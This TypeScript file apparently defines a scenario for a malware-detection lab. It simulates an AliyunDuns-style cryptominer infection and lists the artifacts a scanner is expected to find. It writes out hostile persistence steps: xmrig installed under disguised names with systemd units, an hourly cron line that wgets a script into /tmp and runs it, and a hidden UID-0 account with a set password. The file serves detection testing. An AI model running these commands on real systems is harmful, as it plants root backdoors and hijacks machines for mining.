import type { Scenario } from './types.js';
import { installBinary, processArtifact, startProcess, stratum, WALLET, writeFile, installUnit } from './kit.js';
import { legitCron } from './clean.js';

const SYSETMD = '/usr/bin/sysetmd';
const XMRIG = '/usr/local/share/.A_li_yun_Duns/xmrig';
const HOURLY = '/etc/cron.hourly/0';


/** AliyunDuns-style: sysetmd / A_li_yun_Duns units running xmrig --donate-level, cron.hourly/0, user shaojiang99. */
export const aliyunduns: Scenario = {
  name: 'aliyunduns',
  plan: (ctx) => {
    const a1 = [SYSETMD, '--donate-level', '1', '-o', stratum(ctx.pool, 14444), '-u', WALLET, '-k'];
    const a2 = [XMRIG, '--donate-level', '1', '-o', stratum(ctx.pool, 14444), '-u', WALLET, '-p', 'x'];
    const units = [
      { path: '/etc/systemd/system/sysetmd.service', name: 'sysetmd.service', exec: a1.join(' ') },
      { path: '/etc/systemd/system/A_li_yun_Duns.service', name: 'A_li_yun_Duns.service', exec: a2.join(' ') },
    ];
    const hourly = `#!/bin/sh\nwget -q -O /tmp/.0.sh ${ctx.http}/0.sh && sh /tmp/.0.sh\n`;
    return {
      family: 'aliyunduns',
      plant: [
        ...legitCron.plant(),
        installBinary('aliyunduns', SYSETMD),
        installBinary('aliyunduns', XMRIG),
        ...units.flatMap((u) => installUnit(u.path, u.name, u.exec)),
        writeFile(HOURLY, hourly, '755'),
        'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash shaojiang99',
        "echo 'shaojiang99:Shaojiang@99' | chpasswd",
      ],
      start: [startProcess(a1), startProcess(a2)],
      artifacts: [
        ...legitCron.artifacts(),
        processArtifact(a1, 'aliyunduns', ctx.sha256('aliyunduns'), 'miner', `${ctx.pool}:14444`),
        processArtifact(a2, 'aliyunduns', ctx.sha256('aliyunduns'), 'miner', `${ctx.pool}:14444`),
        { kind: 'file', path: SYSETMD, sha256: ctx.sha256('aliyunduns') },
        { kind: 'file', path: XMRIG, sha256: ctx.sha256('aliyunduns') },
        { kind: 'connection', remote: `${ctx.pool}:14444`, comm: 'sysetmd' },
        ...units.map((u) => ({ kind: 'unit' as const, path: u.path, name: u.name, line: `ExecStart=${u.exec}` })),
        { kind: 'file', path: HOURLY, line: `wget -q -O /tmp/.0.sh ${ctx.http}/0.sh && sh /tmp/.0.sh` },
        { kind: 'account', name: 'shaojiang99', uid: 0 },
      ],
      expectFindings: true,
      respawnSeconds: null,
      binaries: ['aliyunduns'],
      www: { '0.sh': '#!/bin/sh\n# minesweep lab: aliyunduns hourly dropper (no-op)\nexit 0\n' },
    };
  },
};
